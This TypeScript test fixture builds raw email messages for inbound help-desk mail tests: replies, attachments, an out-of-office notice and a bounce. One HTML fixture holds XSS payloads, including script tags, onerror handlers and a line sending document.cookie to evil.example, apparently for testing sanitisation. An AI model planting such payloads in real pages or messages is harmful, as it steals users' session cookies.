/** Raw RFC 822 messages for the inbound tests, shaped like what real mail clients and servers send. */
let n = 0;

export function reply(opts: {
  from?: string;
  subject?: string;
  body?: string;
  messageId?: string;
  inReplyTo?: string;
  headers?: Record<string, string>;
}) {
  n++;
  const head = {
    From: opts.from ?? "Jo Lee <jo@example.com>",
    To: "support@example.com",
    Subject: opts.subject ?? "Re: [WI-2026-001] Printer",
    Date: "Mon, 12 Jan 2026 10:20:00 +0000",
    "Message-ID": opts.messageId ?? `<reply-${n}-${Date.now()}@mail.example.com>`,
    ...(opts.inReplyTo ? { "In-Reply-To": opts.inReplyTo, References: opts.inReplyTo } : {}),
    "MIME-Version": "1.0",
    "Content-Type": "text/plain; charset=utf-8",
    ...opts.headers,
  };
  const lines = Object.entries(head).map(([k, v]) => `${k}: ${v}`);
  const body =
    opts.body ??
    `Reply ${n}.\n\nOn Mon, 12 Jan 2026 at 10:15, Help Desk <support@example.com> wrote:\n> Hello\n`;
  return `${lines.join("\r\n")}\r\n\r\n${body.replace(/\r?\n/g, "\r\n")}`;
}

/** Outlook for Windows: HTML only, with a script a hostile sender slipped in. */
export const htmlOnlyWithScript = [
  "From: Jo Lee <jo@example.com>",
  "To: support@example.com",
  "Subject: RE: [WI-2026-001] Printer",
  "Message-ID: <html-only-1@mail.example.com>",
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  "<html><head><script>alert('head')</script><style>p{color:red}</style></head><body>",
  "<p>It prints <b>again</b>, thanks! &lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<script>document.location='https://evil.example/'+document.cookie</script>",
  '<img src="x" onerror="alert(2)"><p onclick="alert(3)">Jo</p>',
  "</body></html>",
].join("\r\n");

export const PDF_BYTES = Buffer.from("%PDF-1.4\n% binary \u00ff\u00fe\u0000\u0001 tail\n", "latin1");
export const PNG_BYTES = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7) % 256));

/** Apple Mail style multipart/mixed with a PDF and an inline PNG, base64 wrapped at 76 columns. */
export function withAttachments() {
  const b64 = (b: Buffer) => b.toString("base64").replace(/.{76}/g, "$&\r\n");
  return [
    "From: Jo Lee <jo@example.com>",
    "To: support@example.com",
    "Subject: Re: [WI-2026-001] Printer",
    "Message-ID: <attach-1@mail.example.com>",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b1"',
    "",
    "--b1",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Here is the error report and a photo.",
    "--b1",
    'Content-Type: application/pdf; name="report.pdf"',
    'Content-Disposition: attachment; filename="report.pdf"',
    "Content-Transfer-Encoding: base64",
    "",
    b64(PDF_BYTES),
    "--b1",
    'Content-Type: image/png; name="photo.png"',
    'Content-Disposition: attachment; filename="photo.png"',
    "Content-Transfer-Encoding: base64",
    "",
    b64(PNG_BYTES),
    "--b1--",
    "",
  ].join("\r\n");
}

/** An out-of-office answer as Exchange sends it. */
export const outOfOffice = reply({
  subject: "Automatic reply: [WI-2026-001] Printer",
  body: "I am out of the office until Monday.",
  headers: { "Auto-Submitted": "auto-replied", "X-Auto-Response-Suppress": "All" },
});

/** A delivery status notification (RFC 3464) from Postfix. */
export const bounce = [
  "From: MAILER-DAEMON@mail.example.com (Mail Delivery System)",
  "To: support@example.com",
  "Subject: Undelivered Mail Returned to Sender",
  "Message-ID: <bounce-1@mail.example.com>",
  "Auto-Submitted: auto-replied",
  "MIME-Version: 1.0",
  'Content-Type: multipart/report; report-type=delivery-status; boundary="r1"',
  "",
  "--r1",
  "Content-Type: text/plain",
  "",
  "I'm sorry to have to inform you that your message could not be delivered.",
  "--r1",
  "Content-Type: message/delivery-status",
  "",
  "Reporting-MTA: dns; mail.example.com",
  "",
  "Final-Recipient: rfc822; nobody@example.org",
  "Action: failed",
  "Status: 5.1.1",
  "--r1--",
  "",
].join("\r\n");
